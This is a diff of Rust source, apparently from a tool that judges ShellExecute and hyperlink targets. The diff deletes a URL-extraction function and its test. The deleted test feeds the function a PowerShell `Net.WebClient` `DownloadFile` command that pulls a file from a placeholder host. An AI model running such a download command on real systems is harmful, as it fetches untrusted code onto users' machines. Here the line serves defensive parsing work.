@@ -81,25 +81,6 @@ pub fn is_url(text: &str) -> bool {
     ["http://", "https://", "ftp://"].iter().any(|scheme| text.starts_with(scheme))
 }
 
-/// Addresses on the web within `text`.
-pub fn urls(text: &str) -> impl Iterator<Item = &str> {
-    let starts = text.match_indices("://").filter_map(|(at, _)| {
-        let before = text.get(..at)?;
-        let scheme = before.rfind(|c: char| !c.is_ascii_alphabetic()).map_or(0, |end| {
-            end.saturating_add(before.get(end..).and_then(|rest| rest.chars().next()).map_or(1, char::len_utf8))
-        });
-        let name = before.get(scheme..)?.to_ascii_lowercase();
-        ["http", "https", "ftp"].contains(&name.as_str()).then_some(scheme)
-    });
-    starts.filter_map(|start| {
-        let rest = text.get(start..)?;
-        let end = rest
-            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '|' | '…' | ')'))
-            .unwrap_or(rest.len());
-        rest.get(..end).filter(|url| url.len() > "https://".len())
-    })
-}
-
 /// Whether `target` of a ShellExecute or FollowHyperlink only shows something: an address, a
 /// folder, a document.
 pub fn is_shown(target: &str) -> bool {
@@ -141,17 +122,5 @@ mod tests {
         for path in ["a.txt", "exe", "C:\\a.exe\\b.csv", "", "…"] {
             assert!(!is_runnable(path), "{path}");
         }
-    }
-
-    #[test]
-    fn addresses_are_cut_out_of_text() {
-        let found: Vec<&str> =
-            urls("(New-Object Net.WebClient).DownloadFile('http://a.example/x','y');xhttps://b.example/?q=1 ://")
-                .collect();
-        assert_eq!(found, ["http://a.example/x"]);
-        assert_eq!(
-            urls("http://a.example|HTTPS://b.example/z\"").collect::<Vec<_>>(),
-            ["http://a.example", "HTTPS://b.example/z"]
-        );
     }
 }
